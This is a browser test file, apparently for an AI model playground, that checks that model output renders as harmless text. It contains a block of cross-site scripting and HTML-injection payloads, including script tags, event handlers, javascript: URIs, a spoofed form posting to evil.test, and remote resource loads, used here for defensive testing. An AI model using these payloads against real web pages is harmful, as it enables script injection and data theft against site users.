"""A model's answer is text of a stranger: it runs nothing, asks nobody, and breaks nothing around it."""

from __future__ import annotations

import pytest
from playwright.sync_api import Dialog, expect

from tests.browser.conftest import OpenPlayground
from tests.browser.playground import Answer, Playground
from tests.upstream import Script, Upstream

pytestmark = [pytest.mark.reliability, pytest.mark.security]

# Each would set `hacked`, ask evil.test, or take the place of something of ours, if it were anything but text.
HOSTILE = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 1"><img src="https://evil.test/pixel.png">
![remote](https://evil.test/remote.png) ![data](data:image/svg+xml;base64,PHN2Zz4=)
[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
<a href="javascript:window.hacked=1" onclick="window.hacked=1">here</a> <javascript:window.hacked=1>
<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>
<div hx-get="https://evil.test/" hx-trigger="load" hx-on:click="window.hacked=1">htmx</div>
<form id="playground" action="https://evil.test/"><input name="csrfmiddlewaretoken"><button>Run</button></form>
<div id="notices"></div><div data-socket="wss://evil.test/"></div><p data-run="0" aria-busy="true" data-stop-run>x</p>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.test/x.css"><base href="https://evil.test/">
<iframe src="https://evil.test/"></iframe>
<object data="https://evil.test/"></object><meta http-equiv="refresh" content="0">

```html" onmouseover="window.hacked=1
<script>window.hacked = 1</script>
```

<!-- <b> half a tag: <img src="https://evil.test/half.png" onerror="window.hacked = 1
"""
UNCLOSED = "Before\n\n```python\nprint('<script>window.hacked = 1</script>')\n<img src=x onerror=window.hacked=1"

# What an answer's Markdown may become, nothing else; `figure` and `button` are ours, around code.
TEXT = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "a",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
}
TABLES = {"table", "thead", "tbody", "tr", "th", "td"}
CODE = {"code", "pre", "span", "div", "figure", "figcaption", "button", "svg", "use"}
ALLOWED = TEXT | TABLES | CODE


def check_inert(playground: Playground, answer: Answer) -> None:
    """Nothing ran, nothing foreign stands in the page, and the page's own parts are still its own."""
    assert playground.page.evaluate("window.hacked") is None
    elements = answer.text.locator("*").evaluate_all(
        "all => all.map(e => [e.localName, [...e.attributes].map(a => `${a.name}=${a.value}`)])"
    )
    for name, attributes in elements:
        assert name in ALLOWED
        for attribute in attributes:
            assert not attribute.startswith(("on", "hx-", "style=", "id=", "src=", "data-run=", "data-socket="))
            assert "javascript:" not in attribute
            assert "data:" not in attribute
    expect(playground.page.locator("form#playground")).to_have_count(1)
    expect(playground.page.locator("#notices")).to_have_count(1)
    expect(playground.message).to_be_visible()


@pytest.fixture
def playground(open_playground: OpenPlayground) -> Playground:
    """A page that fails the test when a dialog opens."""
    playground = open_playground()

    def opened(dialog: Dialog) -> None:
        playground.page.evaluate("window.hacked = 'dialog'")
        dialog.dismiss()

    playground.page.on("dialog", opened)
    return playground


def test_it_is_text_while_it_streams_and_harmless_at_its_end(playground: Playground, upstream: Upstream) -> None:
    upstream.then(Script(text=HOSTILE, n=200, delay_ms=5))
    answer = playground.run("Hack me")
    answer.shows("evil.test/pixel.png")
    # While it streams there is nothing but text.
    assert answer.text.locator(".block *").count() == 0
    answer.ends()
    check_inert(playground, answer)
    answer.article.get_by_role("button", name="Plain text").click()
    assert answer.part("plain").text_content() == HOSTILE
    check_inert(playground, answer)
    playground.run("And on it goes").ends()


def test_half_a_tag_and_an_open_fence_stay_inert_when_the_stream_breaks(
    playground: Playground, upstream: Upstream
) -> None:
    upstream.then(Script(text=UNCLOSED, n=10, cut_after=10))
    answer = playground.run("Hack me")
    answer.ends("interrupted")
    check_inert(playground, answer)
    assert answer.exact == UNCLOSED


def test_it_is_as_harmless_on_the_runs_own_page_and_in_the_list(playground: Playground, upstream: Upstream) -> None:
    upstream.then(Script(text=HOSTILE, n=20))
    answer = playground.run(HOSTILE.splitlines()[0])
    answer.ends()
    page = playground.page
    for tab in ("answer", "request", "response", "headers", "timing", "attempts"):
        page.goto(f"/w/main/runs/{answer.run}/?tab={tab}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        assert page.evaluate("window.hacked") is None
    page.goto("/w/main/runs/")
    expect(page.get_by_text("<script>window.hacked = 1</script>").first).to_be_visible()
    assert page.evaluate("window.hacked") is None


def test_a_hostile_error_is_text(playground: Playground, upstream: Upstream) -> None:
    words = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
    upstream.then(Script(status=400, message=words))
    answer = playground.run("Fail")
    answer.ends("failed")
    expect(answer.part("problem")).to_contain_text(words)
    assert playground.page.evaluate("window.hacked") is None
